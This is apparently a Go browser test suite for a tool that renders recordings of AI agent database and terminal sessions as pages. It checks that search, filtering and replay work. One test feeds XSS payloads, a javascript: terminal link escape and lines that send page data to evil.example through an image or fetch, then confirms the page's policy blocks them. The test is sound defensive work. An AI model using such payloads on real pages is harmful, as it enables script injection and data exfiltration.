// Package page_test opens the pages of recordings in a real browser: that they show what was recorded, ask the network
// for nothing and run nothing of what an agent wrote.
package page_test

import (
	"bytes"
	"flag"
	"image/png"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chaperone-dev/chaperone/sidecar/record"
	"github.com/chaperone-dev/chaperone/test/browser"
)

var update = flag.Bool("update", false, "write the screenshots of the documentation")

func start(t *testing.T) *browser.Browser {
	t.Helper()
	b, err := browser.Start(t.Context(), 1180, 900)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Stop)
	return b
}

// open opens a page and holds it to asking for nothing and breaking no rule of its own.
func open(t *testing.T, b *browser.Browser, file string) {
	t.Helper()
	if err := b.Open(file); err != nil {
		t.Fatal(err)
	}
}

func quiet(t *testing.T, b *browser.Browser) {
	t.Helper()
	heard := b.Heard()
	if len(heard.Requests) > 0 {
		t.Errorf("the page asks the network for %v", heard.Requests)
	}
	if len(heard.Problems) > 0 {
		t.Errorf("the browser complains: %s", strings.Join(heard.Problems, "\n"))
	}
}

// eval evaluates an expression in the page.
func eval[T any](t *testing.T, b *browser.Browser, expression string) (out T) {
	t.Helper()
	if err := b.Run(expression, &out); err != nil {
		t.Fatalf("%s: %v", expression, err)
	}
	return out
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// screenshot looks at what is shown, and keeps it for the documentation where that is asked for.
func screenshot(t *testing.T, b *browser.Browser, name string) {
	t.Helper()
	shot, err := b.Screenshot()
	must(t, err)
	img, err := png.Decode(bytes.NewReader(shot))
	must(t, err)
	colours := map[[3]uint32]bool{}
	for y := img.Bounds().Min.Y; y < img.Bounds().Max.Y; y += 2 {
		for x := img.Bounds().Min.X; x < img.Bounds().Max.X; x += 2 {
			r, g, b, _ := img.At(x, y).RGBA()
			colours[[3]uint32{r, g, b}] = true
		}
	}
	if len(colours) < 50 {
		t.Errorf("the page shows next to nothing: %d colours", len(colours))
	}
	if *update {
		must(t, os.WriteFile(filepath.Join("..", "..", "docs", "images", name), shot, 0o644))
	}
}

const shownEntries = `[...document.querySelectorAll(".entry")].filter(e => !e.hidden).map(e => e.querySelector(".text")?.textContent ?? "")`

func TestATimelineIsSearchedAndFiltered(t *testing.T) {
	b := start(t)
	open(t, b, write(t, sqlMeta, sqlEvents))
	if got := eval[string](t, b, `document.querySelector(".state").innerText`); got != "✓ complete, verified and signed" {
		t.Errorf("it says of itself %q", got)
	}
	for _, want := range []string{
		"ALTER TABLE customers ADD COLUMN churn_score numeric", "DENIED: rule no-schema-change of agents/billing: schema changes go through migrations",
		"APPROVED by dana@example.com (billing-agent-7d9f4-03b4f2b5): agreed with finance; it waited 1m1.6s", "done: SELECT 42, 42 rows, 3184 bytes, 42 values masked, took 31ms", "done: UPDATE 1337, 1337 rows, took 40ms",
		`FAILED: relation "invoises" does not exist, SQLSTATE 42P01`, "09:41:07.400", "1.1",
	} {
		if !strings.Contains(eval[string](t, b, "document.body.innerText"), want) {
			t.Errorf("%q is missing", want)
		}
	}
	all := eval[[]string](t, b, shownEntries)

	// As a reader does it: / goes to the search, and the words narrow it down.
	must(t, b.Press("/"))
	must(t, b.Type("dana"))
	if got := eval[[]string](t, b, shownEntries); !slices.Equal(got, []string{"UPDATE customers SET plan = 'standard'"}) {
		t.Errorf("a search for who approved shows %q", got)
	}
	must(t, b.Run(`search.select()`, nil))
	must(t, b.Type("CUSTOMERS plan"))
	if got := eval[string](t, b, "count.value"); got != "2 of 8 entries" {
		t.Errorf("a search for two words counts %q", got)
	}
	if n := eval[int](t, b, `CSS.highlights.get("found").size`); n < 4 {
		t.Errorf("%d places are marked", n)
	}
	must(t, b.Run(`search.select()`, nil))
	must(t, b.Type("no such thing"))
	if !eval[bool](t, b, `!nothing.hidden && nothing.offsetHeight > 0`) {
		t.Error("it does not say that nothing matches")
	}
	must(t, b.Run(`search.value = ""; search.dispatchEvent(new Event("input"))`, nil))
	if got := eval[[]string](t, b, shownEntries); !slices.Equal(got, all) {
		t.Errorf("without a search it shows %q", got)
	}
	must(t, b.Run(`document.querySelectorAll("#tools input[name=kind]").forEach(i => i.value === "deny" || i.click())`, nil))
	if got := eval[[]string](t, b, shownEntries); !slices.Equal(got, []string{"ALTER TABLE customers ADD COLUMN churn_score numeric"}) {
		t.Errorf("what was denied is %q", got)
	}
	must(t, b.Run(`document.querySelectorAll("#tools input[name=kind]").forEach(i => i.checked || i.click())`, nil))
	must(t, b.Run(`document.activeElement.blur()`, nil))
	screenshot(t, b, "recording-sql.png")
	quiet(t, b)
}

func TestATerminalIsShownAsItWas(t *testing.T) {
	b := start(t)
	must(t, b.Dark(true))
	open(t, b, write(t, terminalMeta, terminalEvents))
	const screen = `[...document.querySelectorAll("#player .ap-line")].map(l => l.textContent).join("\n")`
	must(t, b.WaitFor(`chaperonePlayer.getDuration() > 0`))
	if d := eval[float64](t, b, `chaperonePlayer.getDuration()`); d > 20 {
		t.Errorf("five minutes of silence are played: %v s", d)
	}
	must(t, b.Run(`chaperonePlayer.seek("100%")`, nil))
	must(t, b.WaitFor(screen+`.includes("done")`))
	text := eval[string](t, b, screen)
	for _, want := range []string{"Active: failed (Result: exit-code)", "deploy@bastion:~$ progress 100%", "password=********"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is missing on\n%s", want, text)
		}
	}
	for _, unwanted := range []string{"progress   0%", "a title", "cm0g"} {
		if strings.Contains(text, unwanted) {
			t.Errorf("%q is on\n%s", unwanted, text)
		}
	}
	screenshot(t, b, "recording-terminal.png")
	// A command's time leads to its moment.
	must(t, b.Run(`document.querySelector(".entry.allow .jump").click()`, nil))
	must(t, b.WaitFor(`!`+screen+`.includes("done") && !`+screen+`.includes("systemctl")`))
	quiet(t, b)
}

func TestNothingThatAnAgentWroteRuns(t *testing.T) {
	hostile := `</script></pre><script>window.pwned=1</script><img src=x onerror="window.pwned=2"><svg onload=window.pwned=3>` +
		"\x1b]8;;javascript:window.pwned=4\x07link\x1b]8;;\x07 \u202e <!-- {{.}} ${window.pwned=5} ]]> \u2028 https://evil.example/x"
	events := []record.Event{
		{Kind: record.KindConnect, Connection: 1, Protocol: hostile, Peer: hostile, User: hostile, Database: hostile, Client: hostile},
		{Kind: record.KindCommand, Connection: 1, Command: 1, Text: hostile, Verdict: hostile, Policy: hostile, Rule: hostile, Message: hostile, Audited: hostile, Digest: hostile, TextLength: 1 << 20},
		{Kind: record.KindApproval, Connection: 1, Command: 1, Request: hostile, Decision: hostile, Deciders: []string{hostile}, Error: hostile},
		{Kind: record.KindResult, Connection: 1, Command: 1, Tag: hostile, Error: hostile, SQLSTATE: hostile},
		{Kind: record.KindOutput, Connection: 1, Command: 2, Stream: hostile, Data: hostile},
		{Kind: record.KindLost, Error: hostile}, {Kind: record.Kind(hostile)}, {Kind: record.KindEnd, Error: hostile},
	}
	b := start(t)
	for name, terminal := range map[string]bool{"a timeline": false, "a terminal": true} {
		meta := record.Meta{Log: hostile, Namespace: hostile, Recording: hostile, Pod: hostile, ServiceAccount: hostile, Target: hostile,
			Protocol: hostile, User: hostile, Policies: []string{hostile}, Start: started, Terminal: terminal}
		open(t, b, write(t, meta, events))
		if terminal {
			must(t, b.WaitFor(`chaperonePlayer.getDuration() >= 0`))
			must(t, b.Run(`chaperonePlayer.seek("100%").then(() => chaperonePlayer.play())`, nil))
		}
		if got := eval[string](t, b, `String(window.pwned)`); got != "undefined" {
			t.Errorf("%s: it ran: %s", name, got)
		}
		if n := eval[int](t, b, `document.querySelectorAll("img, svg[onload], iframe, object, a[href]").length`); n > 0 {
			t.Errorf("%s: it holds %d elements that an agent wrote", name, n)
		}
		if !strings.Contains(eval[string](t, b, `document.querySelector("h1").innerText`), `<img src=x onerror="window.pwned=2">`) {
			t.Errorf("%s: the title is not what was recorded", name)
		}
		quiet(t, b)
	}

	// And if something got into the page after all, its policy stops it: script, handler, style, request.
	for _, attack := range []string{
		`{ const s = document.createElement("script"); s.textContent = "window.pwned = 6"; document.body.append(s) }`,
		`document.body.insertAdjacentHTML("beforeend", "<b onclick='window.pwned = 7'>x</b>"); document.body.lastElementChild.click()`,
		`try { new Function("window.pwned = 8")() } catch {}`,
		`{ const i = new Image(); i.src = "https://evil.example/?" + document.title; document.body.append(i) }`,
		`fetch("https://evil.example/").catch(() => 0)`,
	} {
		before := len(b.Heard().Problems)
		must(t, b.Run(attack, nil))
		must(t, b.WaitFor("true"))
		if got := eval[string](t, b, `String(window.pwned)`); got != "undefined" {
			t.Errorf("%s took effect", attack)
		}
		if !strings.Contains(attack, "Function") && len(b.Heard().Problems) == before {
			must(t, b.WaitFor("new Promise(r => setTimeout(() => r(true), 500))"))
			if len(b.Heard().Problems) == before {
				t.Errorf("%s: the policy did not refuse it", attack)
			}
		}
	}
	if requests := b.Heard().Requests; len(requests) > 0 {
		t.Errorf("asked for %v", requests)
	}
}
